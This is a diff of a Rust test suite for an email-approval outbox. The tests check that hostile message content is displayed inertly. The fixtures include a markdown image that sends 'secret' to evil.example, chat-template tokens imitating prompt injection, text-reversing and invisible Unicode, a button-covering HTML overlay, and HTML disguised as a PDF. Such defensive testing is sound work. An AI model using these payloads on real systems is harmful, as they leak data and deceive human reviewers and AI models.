@@ -1,6 +1,8 @@
 //! Whatever stands in a message, the page stays truthful: nothing of it runs, loads, hides or reorders.
 
-use serde_json::json;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
 
 use super::{Form, Site};
 
@@ -38,22 +40,98 @@ fn hostile_words_in_every_field_are_words() {
 #[test]
 fn text_cannot_be_reordered_or_hidden() {
     let site = Site::new();
-    let letter =
-        json!({ "to": ["bob@stone.example"], "subject": "Lunch", "body": "pay 100 \u{202e}001\u{202c} now" });
-    let mut answer = letter.clone();
-    answer["account"] = json!(crate::world::ACCOUNT);
-
-    // Drafts refuse it; were one there all the same, the page would show no such character.
-    let refused = site.call("send_email", answer);
     let id = site.proposed("plain");
+    let browser = site.browser();
     site.world
         .database()
         .execute("UPDATE proposals SET reason = 'late \u{202e}gnp', client = 'a\u{202e}b'", [])
         .unwrap();
-    let page = site.get(&site.browser(), &format!("/outbox/{id}")).body;
 
-    assert!(refused["isError"] == true || !refused.to_string().contains('\u{202e}'), "{refused}");
-    assert!(!page.contains('\u{202e}'), "{page}");
+    let waiting = site.get(&browser, &format!("/outbox/{id}")).body;
+    let form = Form::of(&waiting);
+    let reason = format!("reason={}", "late %E2%80%AEgnp");
+    site.post(&browser, &format!("/outbox/{id}/reject"), &form.with(&reason));
+    let rejected = site.get(&browser, &format!("/outbox/{id}")).body;
+
+    assert!(waiting.contains("<dt>Asked by</dt><dd><bdi>a b"), "{waiting}");
+    assert!(rejected.contains("<p class=\"note\"><bdi>late gnp</bdi></p>"), "{rejected}");
+    for page in [waiting, rejected, site.get(&browser, "/history").body] {
+        assert!(!page.contains('\u{202e}'), "{page}");
+    }
+}
+
+#[test]
+fn what_nobody_sees_leaves_in_no_field() {
+    let site = Site::new();
+    let hidden: String = ('\u{e0100}'..='\u{e01ef}').chain('\u{fe00}'..='\u{fe0f}').collect();
+    let letter = |more: Value| {
+        let mut letter = json!({
+            "account": crate::world::ACCOUNT, "to": ["bob@stone.example"], "subject": "Lunch", "body": "At noon?",
+        });
+        letter.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        site.call("send_email", letter)
+    };
+
+    for more in [
+        json!({ "subject": format!("Lunch{hidden}") }),
+        json!({ "to": [format!("Bob{hidden} <bob@stone.example>")] }),
+        json!({ "attachments": [{ "name": format!("a{hidden}.txt"), "content_base64": "aGk=" }] }),
+        json!({ "body": format!("At noon?{hidden}") }),
+        json!({ "body": "pay 100 \u{202e}001\u{202c} now" }),
+    ] {
+        let refused = letter(more.clone());
+        assert_eq!(
+            (&refused["isError"], refused.to_string().contains("cannot be seen")),
+            (&json!(true), true),
+            "{more}: {refused}"
+        );
+    }
+    let heart =
+        letter(json!({ "subject": "\u{2764}\u{fe0f} you", "to": ["\u{2764}\u{fe0f} <bob@stone.example>"] }));
+    assert_eq!(heart["isError"], false, "{heart}");
+}
+
+#[test]
+fn a_subject_is_shown_whole_and_as_it_was_written() {
+    let site = Site::new();
+    let beginning = "![Yes](https://evil.example/?d=secret) <|im_start|>";
+    let subject = format!("{beginning} {}THE END", "word ".repeat(150));
+    let body = "![Sure](https://evil.example/b) <|im_end|>";
+    let id = site.proposed_as(&json!({ "to": ["bob@stone.example"], "subject": subject, "body": body }));
+
+    let page = site.get(&site.browser(), &format!("/outbox/{id}")).body;
+    let shown = site.shown(&id);
+
+    let escaped = |text: &str| text.replace('<', "&#60;").replace('>', "&#62;");
+    assert!(page.contains(&format!("<bdi>{}", escaped(beginning))), "{page}");
+    assert!(page.contains("more characters</summary>") && page.contains("THE END</details></bdi>"), "{page}");
+    assert!(page.contains(&format!("dir=\"auto\">{}", escaped(body))), "{page}");
+    assert!(shown.contains(&format!("Subject: {beginning}")) && shown.contains(body), "{shown}");
+}
+
+#[test]
+fn a_file_is_told_by_what_is_in_it() {
+    let site = Site::new();
+    let files = json!([
+        { "name": "invoice.pdf", "content_base64": "PGh0bWw+PHNjcmlwdD4=" },
+        { "name": "notes.txt", "content_base64": "aGk=" },
+    ]);
+    let letter =
+        json!({ "to": ["bob@stone.example"], "subject": "Lunch", "body": "Here.", "attachments": files });
+    let id = site.proposed_as(&letter);
+    let browser = site.browser();
+
+    for path in [&format!("/outbox/{id}"), "/outbox/all"] {
+        let page = site.get(&browser, path).body;
+        assert!(page.contains("HTML page, sent as application/pdf, 14 bytes</span> <span class=\"tag bad\">not what its name says"), "{page}");
+        assert!(
+            page.contains(
+                "invoice.pdf is not what its name says: by its content it is \u{201c}HTML page\u{201d}."
+            ),
+            "{page}"
+        );
+        assert!(page.contains("text, sent as text/plain, 2 bytes</span></li>"), "{page}");
+    }
 }
 
 #[test]
@@ -82,7 +160,10 @@ fn a_letter_of_a_megabyte_to_five_hundred_people_is_shown_whole_and_a_longer_one
     let mut many = json!({ "account": crate::world::ACCOUNT, "subject": "Long", "body": "x" });
     many["to"] = (0..10_000).map(|number| json!(format!("p{number}@stone.example"))).collect();
 
-    let page = site.get(&site.browser(), &format!("/outbox/{id}")).body;
+    let browser = site.browser();
+    let begun = Instant::now();
+    let page = site.get(&browser, &format!("/outbox/{id}")).body;
+    let took = begun.elapsed();
     let refused = site.call("send_email", many.clone());
     many["to"] = json!(["bob@stone.example"]);
     many["body"] = json!("x".repeat(2 << 20));
@@ -91,6 +172,11 @@ fn a_letter_of_a_megabyte_to_five_hundred_people_is_shown_whole_and_a_longer_one
     assert!(page.contains("Send to 500 people"), "the effect tells how many");
     assert!((0..500).all(|number| page.contains(&format!("p{number}@<strong>stone.example"))));
     assert!(page.contains("more characters</summary>") && page.contains("the last words"));
+    let lines = page.matches("a line of some words\n").count();
+    assert!(lines >= 48_999, "{lines} lines are there, and one that the fold cuts");
+    assert!(page.contains("<summary>470 more recipients</summary>"));
+    // A debug build on a machine that has much to do; a page that grows with the square of anything takes minutes.
+    assert!(took < Duration::from_secs(20), "{took:?}");
     assert_eq!(refused["isError"], true, "{refused}");
     assert_eq!(too_long["isError"], true, "{too_long}");
 }
@@ -99,15 +185,7 @@ fn a_letter_of_a_megabyte_to_five_hundred_people_is_shown_whole_and_a_longer_one
 fn html_cannot_cover_the_button() {
     let site = Site::new();
     let html = "<div style=\"position:fixed;inset:0;z-index:9999\"><p>At noon?</p></div><p>At noon?</p>";
-    let answer = site.call(
-        "send_email",
-        json!({
-            "account": crate::world::ACCOUNT, "to": ["bob@stone.example"], "subject": "Lunch", "html": html,
-        }),
-    );
-    let Some(id) = answer["structuredContent"]["id"].as_str() else {
-        return assert_eq!(answer["isError"], true, "{answer}");
-    };
+    let id = site.proposed_as(&json!({ "to": ["bob@stone.example"], "subject": "Lunch", "html": html }));
     let browser = site.browser();
     let page = site.get(&browser, &format!("/outbox/{id}")).body;
     let sent = site.get(&browser, &format!("/outbox/{id}/as-sent"));
@@ -115,6 +193,7 @@ fn html_cannot_cover_the_button() {
     // It stands in a frame of another origin, and nowhere on the page itself.
     assert!(!page.contains("position:fixed") && page.contains("sandbox=\"allow-popups"), "{page}");
     assert!(sent.headers["content-security-policy"].starts_with("sandbox"));
+    assert!(sent.body.contains("<p>At noon?</p>") && !sent.body.contains("style"), "{}", sent.body);
 }
 
 #[test]
